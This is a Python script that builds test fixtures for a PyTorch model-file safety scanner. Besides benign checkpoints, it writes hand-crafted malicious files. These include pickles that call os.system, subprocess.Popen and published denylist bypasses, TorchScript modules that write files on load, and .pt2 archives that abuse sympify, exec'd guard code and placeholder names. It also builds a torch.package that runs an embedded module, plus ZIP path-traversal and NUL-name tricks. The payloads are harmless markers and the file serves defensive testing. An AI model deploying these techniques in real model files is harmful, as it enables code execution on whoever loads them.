#!/usr/bin/env python3
"""Makes testdata/loadsafety/: files for the load-safety verdict.

    python3 scripts/make_testdata_loadsafety.py            # any Python with torch (1.13 or 2.x)

Hostile pickles are written opcode by opcode (the constants of the `pickle`
module, nothing else): nothing here ever unpickles them, and neither do the
tests. Benign checkpoints are made by torch.save of the running PyTorch (run
the script with both Pythons: files are named by the major.minor that wrote
them), so that the allowlist is tested on what real writers make.

    benign/   state_dicts, optimizer states, OrderedDicts, numpy scalars,
              a legacy (pre-1.6) file, plain pickles, a TorchScript module,
              and copies under other extensions
    evil/     pickles and archives whose loading runs something
    crafted/  shapes no writer makes, which attack a loader or a scanner
"""
import io
import json
import os
import pickle as P
import shutil
import struct
import sys
import zipfile
from collections import OrderedDict
from typing import Tuple

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "testdata", "loadsafety")


# ---- opcode writers ---------------------------------------------------------

def proto(n=2):
    return P.PROTO + bytes([n])


def glob(module, name):
    return P.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):
    b = s.encode()
    return P.BINUNICODE + struct.pack("<I", len(b)) + b


def short_ustr(s):
    b = s.encode()
    return P.SHORT_BINUNICODE + bytes([len(b)])  + b


def i1(n):
    return P.BININT1 + bytes([n])


def call(module, name, *args):
    """module.name(*args) by REDUCE; args are already-encoded values."""
    return glob(module, name) + P.MARK + b"".join(args) + P.TUPLE + P.REDUCE


def tensor(key, numel, storage="FloatStorage", shape=None):
    """torch._utils._rebuild_tensor_v2 of a storage, as torch.save writes it."""
    shape = shape if shape is not None else [numel]
    size = P.MARK + b"".join(i1(s) for s in shape) + P.TUPLE
    stride = P.MARK + b"".join(i1(1) for _ in shape) + P.TUPLE
    pid = P.MARK + ustr("storage") + glob("torch", storage) + ustr(key) + ustr("cpu") + i1(numel) + P.TUPLE + P.BINPERSID
    return (glob("torch._utils", "_rebuild_tensor_v2") + P.MARK + pid + i1(0) + size + stride + P.NEWFALSE +
            glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE + P.TUPLE + P.REDUCE)


def dict_of(*items):
    return P.EMPTY_DICT + P.MARK + b"".join(k + v for k, v in items) + P.SETITEMS


def torch_save_zip(path, data_pkl, storages=None, top="archive", deflate=False):
    """A file in torch.save's ZIP layout around a hand-written data.pkl."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(top + "/data.pkl", data_pkl, zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED)
        z.writestr(top + "/byteorder", "little")
        for key, raw in (storages or {}).items():
            z.writestr(top + "/data/" + key, raw)
        z.writestr(top + "/version", "3\n")
        z.writestr(top + "/.data/serialization_id", "0" * 40)


def write(rel, data):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


# ---- hostile files ----------------------------------------------------------

def make_evil():
    four = b"\0" * 16
    # A poisoned checkpoint: a state dict whose second entry reduces to posix.system.
    system = call("posix", "system", ustr("echo tsarchive-test-never-runs"))
    torch_save_zip(os.path.join(ROOT, "evil/reduce_system.pt"),
                   proto() + dict_of((ustr("w"), tensor("0", 4)), (ustr("x"), system)) + P.STOP, {"0": four})
    # The same as a plain pickle under the names hubs see.
    plain = proto() + dict_of((ustr("x"), call("os", "system", ustr("id")))) + P.STOP
    for ext in ("pkl", "bin", "ckpt"):
        write("evil/os_system." + ext, plain)
    # Functions a denylist misses (published scanner bypasses).
    for module, name, arg in [("pkgutil", "resolve_name", "os:system"), ("importlib", "import_module", "os"),
                              ("marshal", "loads", "c"), ("torch.utils.collect_env", "run", "id"),
                              ("multiprocessing.util", "spawnv_passfds", "/bin/sh")]:
        write("evil/bypass_%s.pkl" % name, proto() + call(module, name, ustr(arg)) + P.STOP)
    # STACK_GLOBAL whose strings come from the memo, behind decoys.
    memo = (proto(4) + short_ustr("builtins") + P.MEMOIZE + short_ustr("len") + P.MEMOIZE + P.POP + P.POP +
            short_ustr("os") + P.MEMOIZE + short_ustr("system") + P.MEMOIZE + P.POP + P.POP +
            P.BINGET + bytes([2]) + P.BINGET + bytes([3]) + P.STACK_GLOBAL + short_ustr("id") + P.TUPLE1 + P.REDUCE +
            P.STOP)
    write("evil/stack_global_memo.pkl", memo)
    # getattr(__import__('os'), 'system')('id'): the callable is made at load time.
    chain = (proto() + glob("builtins", "getattr") + P.MARK + call("builtins", "__import__", ustr("os")) +
             ustr("system") + P.TUPLE + P.REDUCE + P.MARK + ustr("id") + P.TUPLE + P.REDUCE + P.STOP)
    write("evil/getattr_chain.pkl", chain)
    # Protocol 0 INST and protocol 1 OBJ.
    write("evil/inst.pkl", b"(S'id'\nios\nsystem\n.")
    write("evil/obj.pkl", b"(csubprocess\nPopen\nS'id'\no.")
    # NEWOBJ_EX of an unknown class, and EXT1 through the copyreg registry.
    write("evil/newobj_ex.pkl", proto(4) + glob("webbrowser", "open") + P.EMPTY_TUPLE + P.EMPTY_DICT + P.NEWOBJ_EX + P.STOP)
    write("evil/ext1.pkl", proto() + P.EXT1 + bytes([1]) + P.EMPTY_TUPLE + P.REDUCE + P.STOP)
    # A team's own class: unlisted, not dangerous; --allow-global mymodel.Config accepts it.
    config = (proto() + glob("mymodel", "Config") + P.EMPTY_TUPLE + P.NEWOBJ + dict_of((ustr("lr"), i1(1))) + P.BUILD)
    torch_save_zip(os.path.join(ROOT, "evil/custom_class.pt"),
                   proto() + dict_of((ustr("w"), tensor("0", 4)), (ustr("config"), config[2:])) + P.STOP, {"0": four})
    # A legacy (pre-1.6) stream whose object pickle calls os.system.
    magic = proto() + P.LONG1 + bytes([10]) + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + P.STOP
    legacy = (magic + proto() + struct.pack("<cH", b"M", 1001) + P.STOP + proto() + P.EMPTY_DICT + P.STOP +
              proto() + call("os", "system", ustr("id")) + P.STOP + proto() + P.EMPTY_LIST + P.STOP)
    write("evil/legacy_system.pth", legacy)
    # Only allowlisted-looking names: torch._utils._rebuild_tensor followed,
    # as protocol 4's find_class does, through __builtins__ to get('exec');
    # BUILD sets that as the OrderedDict's __setstate__, and a second BUILD
    # calls it with the code.
    prefix = (proto(4) + glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE +
              P.EMPTY_DICT + short_ustr("__setstate__") +
              glob("torch._utils", "_rebuild_tensor.__builtins__.get") + short_ustr("exec") + P.TUPLE1 + P.REDUCE +
              P.SETITEM + P.BUILD + short_ustr("import os; os.system('id')") + P.BUILD + P.STOP)
    write("evil/rebuild_prefix.pkl", prefix)
    torch_save_zip(os.path.join(ROOT, "evil/rebuild_prefix.pt"), prefix)


def make_crafted():
    four = b"\0" * 16
    # SETITEM on a list.
    setitem = proto() + P.EMPTY_LIST + ustr("k") + tensor("0", 4) + P.SETITEM + P.STOP
    torch_save_zip(os.path.join(ROOT, "crafted/setitem_on_list.pt"), setitem, {"0": four})
    # A storage that declares 100 float32 elements over a 16-byte record.
    big = proto() + dict_of((ustr("w"), tensor("0", 100, shape=[4]))) + P.STOP
    torch_save_zip(os.path.join(ROOT, "crafted/storage_size.pt"), big, {"0": four})
    # A persistent id that is a 3-tuple.
    pid = (proto() + P.MARK + ustr("storage") + ustr("0") + ustr("cpu") + P.TUPLE + P.BINPERSID + P.STOP)
    torch_save_zip(os.path.join(ROOT, "crafted/persistent_id.pt"), pid, {"0": four})
    good = proto() + dict_of((ustr("a"), i1(1))) + P.STOP
    # A pickle that the end of its file cuts short is damage, not crafted
    # (review 55c): testdata/pickle_shapes/pickle_cut.pkl.
    write("crafted/after_stop.pkl", good + b"\xff\xfe junk")
    write("crafted/second_pickle.pkl", good + proto() + call("os", "system", ustr("id")) + P.STOP)
    # 100,000 imports of one 2 KB name from two memoized strings, 6 bytes each:
    # 2 KB deflated, and a scanner that keeps every import holds 200 MB.
    a, b = "m" * 1000, "n" * 1000
    flood = (proto(4) + ustr(a) + P.BINPUT + bytes([0]) + ustr(b) + P.BINPUT + bytes([1]) + P.POP + P.POP +
             (P.BINGET + bytes([0]) + P.BINGET + bytes([1]) + P.STACK_GLOBAL + P.POP) * 100000 + P.NONE + P.STOP)
    torch_save_zip(os.path.join(ROOT, "crafted/import_flood.pt"), flood, deflate=True)


# ---- benign files from the running PyTorch ------------------------------------

def make_benign():
    import numpy as np
    import torch
    tag = "%d.%d" % tuple(int(x) for x in torch.__version__.split(".")[:2])
    tag = tag.replace(".", "_")
    torch.manual_seed(0)
    try:
        from torchvision.ops import MLP
        model = MLP(4, [8, 2])
    except Exception:  # torchvision is Debian's, beside 1.13 only
        model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.BatchNorm1d(8), torch.nn.Linear(8, 2))
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.randn(3, 4)).sum().backward()
    opt.step()
    d = "benign/torch%s/" % tag
    os.makedirs(os.path.join(ROOT, d), exist_ok=True)
    out = lambda name: os.path.join(ROOT, d + name)
    torch.save(model.state_dict(), out("state_dict.pth"))
    torch.save({"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 3,
                "best": np.float64(0.25), "steps": np.int64(7), "history": OrderedDict(a=1.0)},
               out("checkpoint.pt"))
    torch.save(model.state_dict(), out("legacy.pth"), _use_new_zipfile_serialization=False)
    torch.save([torch.arange(3), (1, 2.5, "x"), {"k": None}], out("values.pt"))
    # Protocol 2 pickles a bytearray as __builtin__.bytearray, which PyTorch 2 maps to builtins.bytearray.
    torch.save({"w": torch.ones(2), "blob": bytearray(b"abc")}, out("bytearray.pt"))
    with open(out("plain.pkl"), "wb") as f:
        P.dump({"vocab": ["a", "b"], "sizes": (1, 2), "scale": 0.5}, f, protocol=2)
    with open(out("plain_p4.pickle"), "wb") as f:
        P.dump({"vocab": ["a", "b"], "sizes": (1, 2)}, f, protocol=4)
    torch.jit.script(torch.nn.Linear(2, 2)).save(out("scripted.pt"))
    # The same files under other names.
    shutil.copy(out("state_dict.pth"), out("state_dict.bin"))
    shutil.copy(out("checkpoint.pt"), out("checkpoint.ckpt"))
    shutil.copy(out("plain.pkl"), out("plain.bin"))
    return out("scripted.pt")


def make_torchscript_attacks(scripted):
    import torch
    # A TorchScript archive named like a checkpoint: torch.load takes it.
    shutil.copy(scripted, os.path.join(ROOT, "crafted/torchscript_named.pth"))

    class Writer(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.path = "/tmp/tsarchive-never-written"

        def forward(self, x):
            t = torch.from_file(self.path, shared=True, size=4)
            return t.copy_(x)

    # Scripted and saved, never run.
    torch.jit.script(Writer()).save(os.path.join(ROOT, "evil/from_file.pt"))


def make_code_attacks():
    import torch

    class Saver(torch.nn.Module):
        """Its __setstate__, which torch.jit.load runs, writes a file with torch.save (aten::save)."""

        def __init__(self):
            super().__init__()
            self.w = torch.ones(2)

        def forward(self, x):
            return x + self.w

        @torch.jit.export
        def __getstate__(self):
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[torch.Tensor, bool]):
            self.w = state[0]
            self.training = state[1]
            torch.save(self.w, "/tmp/tsarchive-never-written")

    torch.jit.script(Saver()).save(os.path.join(ROOT, "evil/jit_save.pt"))

    def rewrite_code(src, dst, old, new):
        """A copy of src whose code/ says `new` where it said `old`: torch.jit.load compiles what it reads."""
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
            changed = False
            for info in zin.infolist():
                data = zin.read(info.filename)
                if "/code/" in info.filename and info.filename.endswith(".py") and old in data:
                    data = data.replace(old, new)
                    changed = True
                if not info.filename.endswith(".debug_pkl"):
                    zout.writestr(info.filename, data)
            assert changed, src

    # torch.from_file spelled with spaces and a line continuation, its arguments after a comment.
    rewrite_code(os.path.join(ROOT, "evil/from_file.pt"), os.path.join(ROOT, "evil/from_file_spaced.pt"),
                 b"torch.from_file(", b"torch . \\\n    from_file (  # a comment\n        ")
    # getattr(torch, "save") instead of torch.save.
    rewrite_code(os.path.join(ROOT, "evil/jit_save.pt"), os.path.join(ROOT, "evil/getattr_save.pt"),
                 b"torch.save(", b'getattr(torch, "save")(')
    # What TorchScript's compiler also makes aten::save of: autograd after any
    # root, and a module bound to a name.
    rewrite_code(os.path.join(ROOT, "evil/jit_save.pt"), os.path.join(ROOT, "evil/autograd_save.pt"),
                 b"torch.save(", b"ops.prim.autograd.save(")
    rewrite_code(os.path.join(ROOT, "evil/jit_save.pt"), os.path.join(ROOT, "evil/alias_save.pt"),
                 b"torch.save(", b"t = torch\n    t.save(")

    class Relu(torch.nn.Module):
        def forward(self, x):
            return torch.relu(x)

    # A custom operator, as the printer writes it (ops.<namespace>.<op>), not torch.ops.
    plain = os.path.join(ROOT, "evil/.relu.pt")
    torch.jit.script(Relu()).save(plain)
    rewrite_code(plain, os.path.join(ROOT, "evil/custom_op.pt"), b"torch.relu(", b"ops.myns.evil(")
    # A custom class constructed in code, never pickled.
    rewrite_code(plain, os.path.join(ROOT, "evil/code_custom_class.pt"), b"torch.relu(",
                 b"__torch__.torch.classes.myns.Evil().run(")
    os.remove(plain)


def make_pt2():
    # A .pt2 whose weight 'steps' is stored as a pickle that calls posix.system.
    src = os.path.join(ROOT, "..", "pt2", "buffers_consts.pt2")
    dst = os.path.join(ROOT, "evil/pt2_pickled_weight.pt2")
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith("model_weights_config.json"):
                data = data.replace(b'"steps": {"path_name": "weight_2", "is_param": false, "use_pickle": false',
                                    b'"steps": {"path_name": "weight_2", "is_param": false, "use_pickle": true')
            elif info.filename.endswith("data/weights/weight_2"):
                data = proto() + call("posix", "system", ustr("id")) + P.STOP
            zout.writestr(info.filename, data)

    # Pickles torch.export.load reads whatever the configs say.
    system = proto() + call("posix", "system", ustr("id")) + P.STOP

    def pt2_copy(name, change, add=None):
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(os.path.join(ROOT, "evil/" + name), "w",
                                                          zipfile.ZIP_STORED) as zout:
            for info in zin.infolist():
                zout.writestr(info.filename, change(info.filename, zin.read(info.filename)))
            for record, data in (add or {}).items():
                zout.writestr(zin.namelist()[0].split("/")[0] + "/" + record, data)

    def sample_inputs(record, data):
        # Sample inputs: torch.load(weights_only=True), then weights_only=False when that refuses.
        if not record.endswith("data/sample_inputs/model.pt"):
            return data
        with zipfile.ZipFile(io.BytesIO(data)) as inner:
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
                for i in inner.infolist():
                    d = inner.read(i)
                    if i.filename.endswith("/data.pkl"):
                        d = d[:2] + call("posix", "system", ustr("id")) + P.POP + d[2:]
                    z.writestr(i, d)
        return out.getvalue()

    pt2_copy("pt2_sample_inputs.pt2", sample_inputs)

    def opaque(record, data):
        # A constant named opaque_obj_*: pickle.loads, though its config says use_pickle false.
        if record.endswith("model_constants_config.json"):
            config = json.loads(data)
            config["config"]["extra"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": False}
            return json.dumps(config).encode()
        return data

    pt2_copy("pt2_opaque_obj.pt2", opaque, {"data/constants/opaque_obj_0": system})
    # A legacy weights file, which torch.export.load prefers to the weights config.
    pt2_copy("pt2_legacy_weights.pt2", lambda record, data: data, {"data/weights/model.pt": system})

    # An expr_str that sympy.sympify evaluates (torch.export.load's _parse_sym_expr): it runs `id`,
    # then gives the symbol it replaced, so the program loads as before.
    dynamic = os.path.join(ROOT, "..", "pt2", "mlp_dynamic.pt2")
    symbol = "Symbol('s77', positive=True, integer=True)"
    evil = "(sympify.__globals__['__builtins__']['__import__']('os').system('id'), %s)[1]" % symbol
    with zipfile.ZipFile(dynamic) as zin, zipfile.ZipFile(os.path.join(ROOT, "evil/pt2_sympify_expr.pt2"), "w",
                                                          zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith("models/model.json"):
                assert symbol.encode() in data
                data = data.replace(json.dumps(symbol).encode(), json.dumps(evil).encode(), 1)
            zout.writestr(info.filename, data)

    def program_copy(name, edit):
        # mlp_dynamic.pt2 with its program's JSON text rewritten by edit(text).
        with zipfile.ZipFile(dynamic) as zin, zipfile.ZipFile(os.path.join(ROOT, name), "w", zipfile.ZIP_STORED) as zout:
            for info in zin.infolist():
                data = zin.read(info.filename)
                if info.filename.endswith("models/model.json"):
                    data = edit(data.decode()).encode()
                zout.writestr(info.filename, data)

    # guards_code, which ep.module() exec()s (torch/export/_unlift.py _convert_guards_code_to_fn): calling
    # the module runs `id`. torch.export writes only size comparisons, like the second entry.
    program_copy("evil/pt2_guards_code.pt2", lambda t: t.replace(
        '"guards_code": []', '"guards_code": [%s]' % json.dumps(
            ["__import__('os').system('id') == 0", "L['x'].size()[0] <= 1024"])[1:-1], 1))
    # A user input named with Python: FX writes the placeholder's name into `def forward(self, <name>)`
    # and exec()s it during torch.export.load, which runs the default value's `id`.
    program_copy("evil/pt2_placeholder_name.pt2", lambda t: t.replace(
        '"x"', json.dumps("x=__import__('os').system('id')")))
    # What Python's json.loads reads and strict JSON refuses (NaN, a lone surrogate, a 400-digit
    # integer), beside the sympify expr_str of pt2_sympify_expr.pt2: torch.export.load still runs `id`.
    program_copy("evil/pt2_json_python_only.pt2", lambda t: t.replace(
        json.dumps(symbol), json.dumps(evil), 1).replace(
        '{', '{"pad": [NaN, -Infinity, "\\ud800", %s], ' % ("9" * 400), 1))
    # Sizes that sympify computes exactly: 2**(10**10), and a float of a billion bits (both hang the
    # loader; tsarchive refuses them unevaluated).
    program_copy("crafted/pt2_sympify_pow.pt2", lambda t: t.replace(
        json.dumps(symbol), json.dumps("Max(Integer(2)**Integer(10)**Integer(10), %s)" % symbol), 1))
    program_copy("crafted/pt2_sympify_precision.pt2", lambda t: t.replace(
        json.dumps(symbol), json.dumps("Mul(Float('1.1', precision=1000000000), %s)" % symbol), 1))

    # AOTInductor code outside the model's folder, which AOTIModelPackageLoader (2.13) still takes
    # for model m: every record under data/constants, and under data/aotinductor/m without a slash
    # (a sibling m2's). The .so files are placeholders, not ELF: nothing here is ever loaded.
    meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"})
    placeholder = b"\x7fELF placeholder: tsarchive judges native code by its name\n"
    for name, records in (
            ("aoti_constants_so", {"data/aotinductor/m/wrapper_metadata.json": meta,
                                   "data/constants/m.cpp": "// never compiled: a .so is present\n",
                                   "data/constants/m_metadata.json": meta, "data/constants/m.so": placeholder}),
            ("aoti_sibling_prefix_so", {"data/aotinductor/m/m_metadata.json": meta, "data/aotinductor/m/m.so": placeholder,
                                        "data/aotinductor/m2/m2_metadata.json": meta,
                                        "data/aotinductor/m2/m2.so": placeholder})):
        with zipfile.ZipFile(os.path.join(ROOT, "evil/" + name + ".pt2"), "w", zipfile.ZIP_STORED) as z:
            z.writestr(name + "/archive_format", "pt2")
            z.writestr(name + "/archive_version", "0")
            for record, data in records.items():
                z.writestr(name + "/" + record, data)
            # what PyTorchFileWriter adds to every archive
            z.writestr(name + "/version", "3\n")
            z.writestr(name + "/byteorder", "little")
            z.writestr(name + "/.data/serialization_id", "0" * 40)

    # torch.export's layout before 2.6, records at the ZIP's root: torch.export.load (2.13) falls back to
    # Python's zipfile and torch.load()s serialized_state_dict.pt, weights_only=False when True refuses.
    with zipfile.ZipFile(dynamic) as zin:
        program = zin.read([n for n in zin.namelist() if n.endswith("models/model.json")][0])
    schema = json.loads(program)["schema_version"]
    state = io.BytesIO()
    with zipfile.ZipFile(state, "w", zipfile.ZIP_STORED) as z:
        z.writestr("serialized_state_dict/data.pkl", proto() + dict_of((ustr("w"), call("posix", "system", ustr("id")))) + P.STOP)
        z.writestr("serialized_state_dict/byteorder", "little")
        z.writestr("serialized_state_dict/version", "3\n")
    with zipfile.ZipFile(os.path.join(ROOT, "evil/pt2_legacy_zip_layout.pt2"), "w", zipfile.ZIP_STORED) as z:
        z.writestr("version", "%d.%d" % (schema["major"], schema["minor"]))
        z.writestr("serialized_exported_program.json", program)
        z.writestr("serialized_state_dict.pt", state.getvalue())
        z.writestr("serialized_constants.pt", b"")
        z.writestr("serialized_example_inputs.pt", b"")


def fixed_zip(path, records):
    """A stored ZIP of (name, data) records in order, dated 1980-01-01: the same bytes on every run."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in records:
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.external_attr = 0o644 << 16
            z.writestr(info, data)


def make_package_beside_torch_save():
    """A torch.save file of one tensor that is a torch.package too: PackageImporter needs only
    .data/extern_modules, and load_pickle('pkg', 'obj.pkl') imports and runs evilmod.py."""
    marker = "tsarchive_marker_package_beside_torch_save"
    data = proto() + dict_of((ustr("w"), tensor("0", 2))) + P.STOP
    fixed_zip(os.path.join(ROOT, "evil/package_beside_torch_save.pt"), [
        ("archive/data.pkl", data), ("archive/byteorder", "little"),
        ("archive/data/0", struct.pack("<2f", 1.0, 2.0)), ("archive/version", "3\n"),
        ("archive/.data/extern_modules", "os\n"),
        ("archive/evilmod.py", "import os\nos.system('touch %s')\nclass C:\n    pass\n" % marker),
        ("archive/pkg/obj.pkl", proto() + glob("evilmod", "C") + P.EMPTY_TUPLE + P.NEWOBJ + P.STOP)])


def make_zip_name_attacks():
    """ZIPs tsarchive's checks refuse for their names, which a loader still reads: crafted, not damaged.
    Each payload touches tsarchive_marker_<file> (the traversal one in the temporary folder's parent)."""
    # AOTIModelPackageLoader extracts every record under data/aotinductor/ to <temporary folder>/<name>
    # without resolving '..': five of them climb out of <tmp>/zip_aoti_traversal/data/aotinductor/model.
    top = "zip_aoti_traversal/"
    meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"})
    fixed_zip(os.path.join(ROOT, "crafted/zip_aoti_traversal.pt2"), [
        (top + "archive_format", "pt2"), (top + "archive_version", "0"), (top + ".data/version", "3\n"),
        (top + "byteorder", "little"), (top + "data/aotinductor/model/wrapper_metadata.json", meta),
        (top + "data/aotinductor/model/" + "../" * 5 + "tsarchive_marker_zip_aoti_traversal",
         "written outside the loader's temporary folder\n")])

    # torch.export's layout before 2.6 (records at the root), read by Python's zipfile, which cuts a name
    # at a NUL and reads the last entry of a name; torch.load(weights_only=False) of serialized_state_dict.pt.
    with zipfile.ZipFile(os.path.join(ROOT, "evil/pt2_legacy_zip_layout.pt2")) as z:
        version, program = z.read("version"), z.read("serialized_exported_program.json")

    def saved(top, pickle):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
            for name, data in ((top + "/data.pkl", pickle), (top + "/byteorder", "little"), (top + "/version", "3\n")):
                z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
        return out.getvalue()

    empty = saved("empty", proto() + P.EMPTY_DICT + P.STOP)
    for name in ("zip_legacy_nul_name", "zip_legacy_dup_name"):
        evil = saved("evil", proto() + dict_of((ustr("w"), call("os", "system", ustr("touch tsarchive_marker_" + name)))) +
                     P.STOP)
        state = ([("serialized_state_dict.ptQZ", evil)] if name.endswith("nul_name") else
                 [("serialized_state_dict.pt", empty), ("serialized_state_dict.pt", evil)])
        path = os.path.join(ROOT, "crafted/" + name + ".pt2")
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
            fixed_zip(path, [("version", version), ("serialized_exported_program.json", program)] + state +
                      [("serialized_constants.pt", empty), ("serialized_example_inputs.pt", b"")])
        if name.endswith("nul_name"):
            raw = open(path, "rb").read()
            assert raw.count(b"serialized_state_dict.ptQZ") == 2
            write("crafted/" + name + ".pt2", raw.replace(b"serialized_state_dict.ptQZ", b"serialized_state_dict.pt\0Z"))


def main():
    for sub in ("evil", "crafted", "benign"):
        os.makedirs(os.path.join(ROOT, sub), exist_ok=True)
    make_evil()
    make_crafted()
    make_pt2()
    make_package_beside_torch_save()
    make_zip_name_attacks()
    if "--no-torch" not in sys.argv:
        scripted = make_benign()
        if not os.path.exists(os.path.join(ROOT, "evil/from_file.pt")):
            make_torchscript_attacks(scripted)
        if not os.path.exists(os.path.join(ROOT, "evil/jit_save.pt")):
            make_code_attacks()


if __name__ == "__main__":
    main()
